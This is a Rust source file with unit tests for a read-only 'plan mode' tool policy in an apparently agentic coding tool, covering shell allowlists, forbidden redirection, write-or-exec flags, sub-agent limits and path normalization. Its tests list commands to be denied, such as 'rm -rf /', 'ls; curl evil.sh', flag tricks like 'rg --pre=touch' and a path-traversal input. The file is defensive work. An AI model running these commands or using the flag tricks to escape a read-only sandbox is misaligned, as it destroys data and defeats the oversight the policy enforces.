use std::path::{Component, Path, PathBuf};

use serde_json::Value;
use tether_types::ToolDecision;

use crate::RestrictedTool;

/// Read-only inspection commands a plan session may run.
pub const DEFAULT_SAFE_SHELL_PREFIXES: &[&str] = &[
    "ls",
    "cat",
    "head",
    "tail",
    "wc",
    "grep",
    "rg",
    "pwd",
    "echo",
    "which",
    "file",
    "stat",
    "du",
    "git status",
    "git log",
    "git diff",
    "git show",
    "git blame",
    "git ls-files",
];

pub const EXPLORE_AGENT: &str = "explore";

const FORBIDDEN_SHELL_FRAGMENTS: &[&str] = &[">", "<", "`", "$(", "&"];

/// Flags that make an otherwise read-only program write files or run other
/// programs, keyed by program name. Two-character flags also match inside a
/// cluster of short options, so `-bC` counts as `-C`.
const WRITE_OR_EXEC_FLAGS: &[(&str, &[&str])] = &[
    ("git", &["--output", "--ext-diff", "--textconv"]),
    ("rg", &["--pre", "--pre-glob"]),
    ("file", &["-C", "--compile"]),
    ("tree", &["-o"]),
];

/// Argument rules applied to every restricted tool call of one plan session.
#[derive(Debug, Clone)]
pub struct ToolPolicy {
    workspace: PathBuf,
    plan_file: PathBuf,
    safe_shell_prefixes: Vec<String>,
    allowed_subagent: String,
}

impl ToolPolicy {
    pub fn new(workspace: impl Into<PathBuf>, plan_file: impl AsRef<Path>) -> Self {
        let workspace = normalize_lexically(&workspace.into());
        let plan_file = resolve_tool_path(&workspace, plan_file.as_ref());
        Self {
            workspace,
            plan_file,
            safe_shell_prefixes: DEFAULT_SAFE_SHELL_PREFIXES
                .iter()
                .map(ToString::to_string)
                .collect(),
            allowed_subagent: EXPLORE_AGENT.to_string(),
        }
    }

    pub fn with_safe_shell_prefixes<I, S>(mut self, prefixes: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.safe_shell_prefixes = prefixes
            .into_iter()
            .map(Into::into)
            .map(|p| p.trim().to_string())
            .filter(|p| !p.is_empty())
            .collect();
        self
    }

    pub fn with_allowed_subagent(mut self, agent: impl Into<String>) -> Self {
        self.allowed_subagent = agent.into();
        self
    }

    pub fn workspace(&self) -> &Path {
        &self.workspace
    }

    pub fn plan_file(&self) -> &Path {
        &self.plan_file
    }

    pub fn safe_shell_prefixes(&self) -> &[String] {
        &self.safe_shell_prefixes
    }

    pub fn evaluate(&self, tool: RestrictedTool, args: &Value) -> ToolDecision {
        match tool {
            RestrictedTool::Shell => self.evaluate_shell(args),
            RestrictedTool::SubAgent => self.evaluate_subagent(args),
            RestrictedTool::EditFile => self.evaluate_plan_file_write(args, "edit"),
            RestrictedTool::CreateFile => self.evaluate_plan_file_write(args, "create"),
        }
    }

    fn allowlist_text(&self) -> String {
        self.safe_shell_prefixes.join(", ")
    }

    fn evaluate_shell(&self, args: &Value) -> ToolDecision {
        let Some(command) = command_from_args(args).map(str::trim).filter(|c| !c.is_empty())
        else {
            return ToolDecision::deny(format!(
                "A `command` argument is required. Plan mode only runs read-only commands starting with one of: {}",
                self.allowlist_text()
            ));
        };

        if FORBIDDEN_SHELL_FRAGMENTS
            .iter()
            .any(|fragment| command.replace("&&", " ").contains(fragment))
        {
            return ToolDecision::deny(format!(
                "Command `{}` uses redirection, backgrounding or command substitution, which plan mode does not allow. Allowed commands start with one of: {}",
                command,
                self.allowlist_text()
            ));
        }

        for segment in command_segments(command) {
            let Some(tokens) = shlex::split(segment) else {
                return ToolDecision::deny(format!(
                    "Command `{}` has unbalanced quoting and cannot be checked. Allowed commands start with one of: {}",
                    segment,
                    self.allowlist_text()
                ));
            };
            if !self.is_allowlisted(&tokens) {
                return ToolDecision::deny(format!(
                    "Command `{}` is not allowed in plan mode. Only read-only commands starting with one of these prefixes may run: {}",
                    segment,
                    self.allowlist_text()
                ));
            }
            if let Some(flag) = write_or_exec_flag(&tokens) {
                return ToolDecision::deny(format!(
                    "Command `{}` passes `{}`, which can write files or run other programs. Plan mode only runs read-only commands.",
                    segment, flag
                ));
            }
        }
        ToolDecision::allow()
    }

    fn is_allowlisted(&self, tokens: &[String]) -> bool {
        self.safe_shell_prefixes.iter().any(|prefix| {
            let words: Vec<&str> = prefix.split_whitespace().collect();
            tokens.len() >= words.len()
                && words.iter().zip(tokens).all(|(word, token)| *word == token.as_str())
        })
    }

    fn evaluate_subagent(&self, args: &Value) -> ToolDecision {
        let requested = agent_type_from_args(args).map(str::trim).unwrap_or("");
        if requested.eq_ignore_ascii_case(&self.allowed_subagent) {
            return ToolDecision::allow();
        }
        let shown = if requested.is_empty() {
            "(none)"
        } else {
            requested
        };
        ToolDecision::deny(format!(
            "Sub-agent type '{}' is not allowed in plan mode. Only the '{}' agent may be dispatched.",
            shown, self.allowed_subagent
        ))
    }

    fn evaluate_plan_file_write(&self, args: &Value, verb: &str) -> ToolDecision {
        let Some(raw) = tool_path_from_args(args) else {
            return ToolDecision::deny(format!(
                "A `path` argument is required. Plan mode may only {} the plan file at {}",
                verb,
                self.plan_file.display()
            ));
        };
        let resolved = resolve_tool_path(&self.workspace, Path::new(raw));
        if resolved == self.plan_file {
            return ToolDecision::allow();
        }
        ToolDecision::deny(format!(
            "Cannot {} '{}' in plan mode. The only file that may be written is the plan file at {}",
            verb,
            resolved.display(),
            self.plan_file.display()
        ))
    }
}

pub fn command_from_args(args: &Value) -> Option<&str> {
    args.get("command")
        .and_then(|v| v.as_str())
        .or_else(|| args.get("cmd").and_then(|v| v.as_str()))
        .or_else(|| args.get("script").and_then(|v| v.as_str()))
}

pub fn agent_type_from_args(args: &Value) -> Option<&str> {
    args.get("agent_type")
        .and_then(|v| v.as_str())
        .or_else(|| args.get("agentType").and_then(|v| v.as_str()))
        .or_else(|| args.get("subagent_type").and_then(|v| v.as_str()))
}

pub fn tool_path_from_args(args: &Value) -> Option<&str> {
    args.get("path")
        .and_then(|v| v.as_str())
        .or_else(|| args.get("filePath").and_then(|v| v.as_str()))
        .or_else(|| args.get("file_path").and_then(|v| v.as_str()))
        .or_else(|| args.get("absolute_path").and_then(|v| v.as_str()))
        .or_else(|| args.get("file").and_then(|v| v.as_str()))
        .filter(|s| !s.trim().is_empty())
}

fn write_or_exec_flag(tokens: &[String]) -> Option<&'static str> {
    let program = tokens.first()?;
    let (_, flags) = WRITE_OR_EXEC_FLAGS
        .iter()
        .find(|(name, _)| *name == program.as_str())?;
    tokens[1..].iter().find_map(|token| {
        flags
            .iter()
            .copied()
            .find(|flag| flag_matches(token, flag))
    })
}

fn flag_matches(token: &str, flag: &str) -> bool {
    if token == flag {
        return true;
    }
    if flag.starts_with("--") {
        return token
            .strip_prefix(flag)
            .is_some_and(|rest| rest.starts_with('='));
    }
    let letter = &flag[1..];
    token.len() > 1
        && token.starts_with('-')
        && !token.starts_with("--")
        && token[1..].contains(letter)
}

/// Splits a command line on `|`, `||`, `&&`, `;` and newlines.
fn command_segments(command: &str) -> Vec<&str> {
    let mut segments = Vec::new();
    let mut rest = command;
    while !rest.is_empty() {
        let next = rest
            .char_indices()
            .find(|(idx, ch)| matches!(ch, '|' | ';' | '\n') || rest[*idx..].starts_with("&&"));
        match next {
            Some((idx, ch)) => {
                segments.push(rest[..idx].trim());
                let width = if rest[idx..].starts_with("&&") || rest[idx..].starts_with("||") {
                    2
                } else {
                    ch.len_utf8()
                };
                rest = &rest[idx + width..];
            }
            None => {
                segments.push(rest.trim());
                rest = "";
            }
        }
    }
    segments.into_iter().filter(|s| !s.is_empty()).collect()
}

/// Resolves `raw` against `workspace` and removes `.`/`..` without touching the filesystem.
pub fn resolve_tool_path(workspace: &Path, raw: &Path) -> PathBuf {
    if raw.is_absolute() {
        normalize_lexically(raw)
    } else {
        normalize_lexically(&workspace.join(raw))
    }
}

fn normalize_lexically(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for component in path.components() {
        match component {
            Component::CurDir => {}
            Component::ParentDir => {
                out.pop();
            }
            other => out.push(other.as_os_str()),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn policy() -> ToolPolicy {
        ToolPolicy::new("/ws", "/ws/.tether/plans/s1.md")
    }

    #[test]
    fn shell_denies_destructive_command_and_names_allowlist() {
        let decision = policy().evaluate(RestrictedTool::Shell, &json!({"command": "rm -rf /"}));
        assert!(!decision.allowed);
        let explanation = decision.explanation.unwrap();
        assert!(explanation.contains("rm -rf /"));
        assert!(explanation.contains("git status"));
        assert!(explanation.contains("ls"));
    }

    #[test]
    fn shell_allows_read_only_command() {
        let decision = policy().evaluate(
            RestrictedTool::Shell,
            &json!({"command": "git log --oneline -5"}),
        );
        assert!(decision.allowed);
        assert!(policy()
            .evaluate(RestrictedTool::Shell, &json!({"command": "ls"}))
            .allowed);
    }

    #[test]
    fn shell_prefix_requires_word_boundary() {
        let decision = policy().evaluate(RestrictedTool::Shell, &json!({"command": "lsblk"}));
        assert!(!decision.allowed);
    }

    #[test]
    fn shell_checks_every_segment_of_a_chain() {
        let p = policy();
        assert!(p
            .evaluate(RestrictedTool::Shell, &json!({"command": "cat a.rs | grep fn"}))
            .allowed);
        assert!(!p
            .evaluate(RestrictedTool::Shell, &json!({"command": "ls && rm -rf target"}))
            .allowed);
        assert!(!p
            .evaluate(RestrictedTool::Shell, &json!({"command": "ls; curl evil.sh"}))
            .allowed);
    }

    #[test]
    fn shell_denies_redirection_and_substitution() {
        let p = policy();
        for command in ["echo hi > src/main.rs", "cat $(which sh)", "ls `pwd`", "tail -f log &"] {
            let decision = p.evaluate(RestrictedTool::Shell, &json!({ "command": command }));
            assert!(!decision.allowed, "{command} should be denied");
        }
    }

    #[test]
    fn shell_denies_flags_that_write_or_execute() {
        let p = policy();
        for command in [
            "git diff --no-index --output=src/main.rs a.txt b.txt",
            "git log --output out.txt",
            "git show --ext-diff HEAD",
            "git diff --textconv",
            "rg --pre=touch x",
            "rg --pre-glob '*.rs' --pre cat fn",
            "file -C -m magic",
            "file -bC x",
            "ls | git log --output=notes.md",
        ] {
            let decision = p.evaluate(RestrictedTool::Shell, &json!({ "command": command }));
            assert!(!decision.allowed, "{command} should be denied");
        }
        let explanation = p
            .evaluate(RestrictedTool::Shell, &json!({"command": "rg --pre=touch x"}))
            .explanation
            .unwrap();
        assert!(explanation.contains("--pre"));
    }

    #[test]
    fn shell_keeps_harmless_flags_of_checked_programs() {
        let p = policy();
        for command in ["rg -n fn src", "git diff --stat", "file -b Cargo.toml", "grep -o fn a.rs"] {
            let decision = p.evaluate(RestrictedTool::Shell, &json!({ "command": command }));
            assert!(decision.allowed, "{command} should be allowed");
        }
    }

    #[test]
    fn branch_and_tree_are_not_on_the_default_allowlist() {
        let p = policy();
        for command in ["git branch -D main", "git branch", "tree -o src/main.rs", "tree"] {
            let decision = p.evaluate(RestrictedTool::Shell, &json!({ "command": command }));
            assert!(!decision.allowed, "{command} should be denied");
        }
    }

    #[test]
    fn configured_tree_still_cannot_write_output() {
        let p = policy().with_safe_shell_prefixes(["tree"]);
        assert!(p.evaluate(RestrictedTool::Shell, &json!({"command": "tree src"})).allowed);
        assert!(!p
            .evaluate(RestrictedTool::Shell, &json!({"command": "tree -ao src/main.rs"}))
            .allowed);
    }

    #[test]
    fn shell_with_unbalanced_quotes_is_denied() {
        let decision = policy().evaluate(RestrictedTool::Shell, &json!({"command": "cat 'a.rs"}));
        assert!(!decision.allowed);
        assert!(decision.explanation.unwrap().contains("quoting"));
    }

    #[test]
    fn shell_without_command_is_denied() {
        let decision = policy().evaluate(RestrictedTool::Shell, &json!({}));
        assert!(!decision.allowed);
        assert!(decision.explanation.unwrap().contains("command"));
    }

    #[test]
    fn subagent_allows_only_explore() {
        let p = policy();
        assert!(p
            .evaluate(
                RestrictedTool::SubAgent,
                &json!({"agent_type": "explore", "prompt": "map the crate"})
            )
            .allowed);
        let denied = p.evaluate(
            RestrictedTool::SubAgent,
            &json!({"agent_type": "general-purpose", "prompt": "fix it"}),
        );
        assert!(!denied.allowed);
        assert!(denied.explanation.unwrap().contains("'explore'"));
    }

    #[test]
    fn file_tools_allow_only_the_plan_file() {
        let p = policy();
        for tool in [RestrictedTool::EditFile, RestrictedTool::CreateFile] {
            assert!(p
                .evaluate(tool, &json!({"path": "/ws/.tether/plans/s1.md"}))
                .allowed);
            assert!(p
                .evaluate(tool, &json!({"path": ".tether/plans/s1.md"}))
                .allowed);
            let denied = p.evaluate(tool, &json!({"path": "src/lib.rs"}));
            assert!(!denied.allowed);
            assert!(denied
                .explanation
                .unwrap()
                .contains("/ws/.tether/plans/s1.md"));
        }
    }

    #[test]
    fn parent_dir_traversal_cannot_escape_to_plan_file_lookalike() {
        let p = policy();
        let decision = p.evaluate(
            RestrictedTool::CreateFile,
            &json!({"path": "/ws/.tether/plans/../../src/main.rs"}),
        );
        assert!(!decision.allowed);
        let roundabout = p.evaluate(
            RestrictedTool::EditFile,
            &json!({"path": "/ws/src/../.tether/plans/s1.md"}),
        );
        assert!(roundabout.allowed);
    }
}
